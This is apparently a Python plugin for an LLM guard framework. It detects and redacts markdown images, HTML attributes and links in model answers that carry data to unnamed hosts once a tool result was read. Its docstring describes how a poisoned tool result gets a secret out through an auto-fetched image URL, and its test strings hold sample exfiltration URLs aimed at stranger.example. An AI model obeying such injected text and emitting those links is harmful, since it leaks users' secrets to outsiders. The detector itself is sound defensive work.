"""Links and images in answers that carry data to a stranger's host: how injected text gets a secret out of a chat.

A poisoned tool result asks for `![x](https://stranger.example/?q=<the secret>)`, and the chat window fetches it without
a click. Found here: where the request holds a tool result, URLs that carry data (`url_data`) to a host that neither the
user nor the system prompt named. The finding covers the URL only, so a link keeps its text: `[text](<LINK>)`.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Annotated, Literal

from pydantic import BaseModel, ConfigDict, StringConstraints

from yett.detector import Concern, Detector, Pattern
from yett.flow import FlowView, Phase, Role
from yett.hookspecs import hookimpl
from yett.verdict import Action
from yett_plugins.url_data import Url, carries_data, is_named, pieces, urls_in

MAX_LEN = 8192  # no pattern below reads further, which spares the core from watching it
_TRUSTED = frozenset({Role.SYSTEM, Role.USER})

# A markdown destination ends at white space or at a bracket it did not open.
_DEST = r"[^\s<>()]{0,2048}(?:\([^\s<>()]{0,200}\)[^\s<>()]{0,400}){0,3}"
_ANGLE = r"[^<>\n]{1,2048}"
# A bare URL goes on to the next white space or tag, whatever stands in it; punctuation at its end is the sentence's.
_RUN = r"[^\s<>]{0,2000}(?:>(?<![\"']>)[^\s<>]{0,200}){0,2}[^\s<>.,;:!?)\]}\"'*_~]"
_ALT = r"[^\[\]]{0,1000}(?:\[[^\[\]]{0,100}\][^\[\]]{0,200}){0,3}"
# Attributes that are fetched unasked, whatever the tag.
_FETCHED = r"(?:src|srcset|poster|background|data-src|xlink:href)\s{0,8}=\s{0,8}"
_IMAGES = (
    ("inline", rf"!\[{_ALT}\]\(\s{{0,8}}({_DEST})"),
    ("inline in angles", rf"!\[{_ALT}\]\(\s{{0,8}}<({_ANGLE})>"),
    ("definition", r"^[ >\t]{0,8}\[[^\[\]\n]{1,200}\]:\s{0,8}([^\s<>]{1,2048})"),
    ("definition in angles", rf"^[ >\t]{{0,8}}\[[^\[\]\n]{{1,200}}\]:\s{{0,8}}<({_ANGLE})>"),
    ("attribute quoted", rf"\b{_FETCHED}[\"']([^\"'<>]{{1,2048}})"),
    ("attribute bare", rf"\b{_FETCHED}([^\s\"'<>]{{1,2048}})"),
    ("resource", r"<(?:link|image|use|object)\b[^<>]{0,200}\b(?:href|data)\s{0,8}=\s{0,8}[\"']?([^\s\"'<>]{1,2048})"),
    ("css", r"\burl\(\s{0,8}[\"']?([^\s\"'()<>]{1,2048})"),
)
_LINKS = (
    ("inline", rf"\]\(\s{{0,8}}({_DEST})"),
    ("inline in angles", rf"\]\(\s{{0,8}}<({_ANGLE})>"),
    ("bare", rf"\b(?:https?|ftps?|wss?):[/\\]{{1,4}}{_RUN}"),
    ("without a scheme", rf"\bwww\d?\.{_RUN}"),
    ("anchor quoted", r"\bhref\s{0,8}=\s{0,8}[\"']([^\"'<>]{1,2048})"),
    ("anchor bare", r"\bhref\s{0,8}=\s{0,8}([^\s\"'<>]{1,2048})"),
)
_WHOLE = frozenset({"bare", "without a scheme"})
Host = Annotated[str, StringConstraints(pattern=r"^(\*\.)?[^\s/*:@?#]+$", to_lower=True)]


class OutputExfil:
    """Finds images and links in answers that carry data to hosts nobody named, once a tool result was read."""

    name = "output_exfil"

    class Config(BaseModel):
        """`allow_hosts`: hosts that may be sent data (`*.example.com`: and all below).

        `copied_links`: whether a link with data that stands letter by letter in the request may pass (`pass`): whoever
        wrote it there knows the data. Images never may, since fetching them tells that they were shown.
        """

        model_config = ConfigDict(extra="forbid", frozen=True)
        allow_hosts: tuple[Host, ...] = ()
        copied_links: Literal["pass", "redact"] = "redact"

    def __init__(self, config: Config | None = None) -> None:
        self.config = config or self.Config()

    @hookimpl
    def register_detectors(self) -> Iterable[Detector]:
        """`exfil.image`, which needs no click, and `exfil.link`, which needs one."""
        config = self.config
        yield Detector(
            name="exfil.image",
            code="exfil.image",
            entity="LINK",
            patterns=tuple(Pattern(name, regex, 0.9, 1, ignore_case=True) for name, regex in _IMAGES),
            reversible=False,
            max_len=MAX_LEN,
            default=Action.REDACT,
            priority=6,
            hit=(
                "![a](https://stranger.example/p.png?q=1)",
                "![a]( <//stranger.example/p.png?q=1> 'title')",
                "text\n[1]: https://stranger.example/?q=1",
                '<img alt="x" src="https://stranger.example/p?q=1">',
                "background: url(https://stranger.example/p?q=1)",
            ),
            miss=("an [image](https://example.com/a.png)", "a[0]: x", "<b>bold</b>", "curl -x"),
            concerns=concern(config.allow_hosts, image=True, copied_passes=False),
            phases=frozenset({Phase.RESPONSE}),
        )
        yield Detector(
            name="exfil.link",
            code="exfil.link",
            entity="LINK",
            patterns=tuple(
                Pattern(name, regex, 0.9, int(name not in _WHOLE), ignore_case=True) for name, regex in _LINKS
            ),
            reversible=False,
            max_len=MAX_LEN,
            default=Action.REDACT,
            priority=5,
            hit=(
                "[a](https://stranger.example/?q=1)",
                "see https://stranger.example/?q=1.",
                "<https://stranger.example/?q=1>",
                "<a href='//stranger.example/?q=1'>",
                "www.stranger.example/?q=1",
            ),
            miss=("[a] (b)", "http is a protocol", "a://b", "awww.x"),
            concerns=concern(config.allow_hosts, image=False, copied_passes=config.copied_links == "pass"),
            phases=frozenset({Phase.RESPONSE}),
        )


def concern(allowed: tuple[str, ...], *, image: bool, copied_passes: bool) -> Concern:
    """The question whether a matched URL takes data out of a flow."""

    def concerns(flow: FlowView, matched: str) -> bool:
        if not _read_external(flow):
            return False
        if not any(_goes_out(flow, url, allowed, image=image) for url in urls_in(matched)):
            return False
        # What stands in the request letter by letter was not put together from what the model read. A query is
        # followed up all the same: it may tell who was shown it.
        copied = any(matched in leaf.text for leaf in flow.asked)
        return not (copied and (copied_passes or "?" not in matched))

    return concerns


def _read_external(flow: FlowView) -> bool:
    return bool(flow.tool_results) or any(leaf.role is Role.TOOL_RESULT for leaf in flow.asked)


def _goes_out(flow: FlowView, url: Url, allowed: tuple[str, ...], *, image: bool) -> bool:
    if _is_allowed(url.host, allowed):
        return False
    if not carries_data(url, strict=image) and not _was_read(flow, url, image=image):
        return False
    return not is_named(url.host, (leaf.text for leaf in flow.asked if leaf.role in _TRUSTED))


def _is_allowed(host: str, allowed: tuple[str, ...]) -> bool:
    return any(host == one.removeprefix("*.") or (one[0] == "*" and host.endswith(one[1:])) for one in allowed)


def _was_read(flow: FlowView, url: Url, *, image: bool) -> bool:
    """Whether a telling piece of `url` (a code, an address) stands in the request outside of that URL."""
    found = pieces(url, strict=image)
    if not found:
        return False
    texts = [leaf.text.replace(url.text, "") for leaf in flow.asked]
    return any(piece in text for piece in found for text in texts)
